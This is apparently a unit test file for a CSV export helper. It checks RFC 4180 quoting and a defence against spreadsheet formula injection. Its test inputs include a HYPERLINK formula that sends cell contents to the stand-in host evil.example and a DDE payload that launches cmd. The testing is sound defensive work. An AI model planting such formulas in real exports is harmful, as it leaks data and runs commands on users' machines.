import { csvField, toCsvLine } from './report-csv';

describe('CSV fields (RFC 4180)', () => {
  it('quotes a field with a comma, a quote or a line break, doubling quotes', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a, b')).toBe('"a, b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    expect(csvField('Λευκωσία')).toBe('Λευκωσία');
    expect(csvField(null)).toBe('');
    expect(toCsvLine(['x', 3, true, undefined])).toBe('x,3,true,');
  });
});

describe('CSV fields that a spreadsheet would run as formulas (OWASP CSV injection)', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?d="&A1,"Open")', `"'=HYPERLINK(""http://evil.example/?d=""&A1,""Open"")"`],
    ['=1+2', `"'=1+2"`],
    ['+1+2', `"'+1+2"`],
    ['-2+3', `"'-2+3"`],
    ['@SUM(A1:A9)', `"'@SUM(A1:A9)"`],
    ['\t=1+2', `"'\t=1+2"`],
    ['\r=1+2', `"'\r=1+2"`],
    ["=cmd|' /C calc'!A0", `"'=cmd|' /C calc'!A0"`],
  ])('keeps %j as text: a leading single quote, the whole cell quoted', (text, field) => {
    expect(csvField(text)).toBe(field);
  });

  it('loses no character: the cell reads back as the quote and the text', () => {
    const text = '=HYPERLINK("http://evil.example","a, b")\r\nnext';
    const field = csvField(text);
    expect(field.startsWith('"\'') && field.endsWith('"')).toBe(true);
    expect(field.slice(2, -1).replace(/""/g, '"')).toBe(text);
  });

  it('leaves text alone that only contains those characters later, and numbers', () => {
    expect(csvField('Plan = budget + staff')).toBe('Plan = budget + staff');
    expect(csvField('e-mail @ desk')).toBe('e-mail @ desk');
    expect(csvField(' =1+2')).toBe(' =1+2');
    expect(csvField(40)).toBe('40');
    expect(csvField('')).toBe('');
  });
});
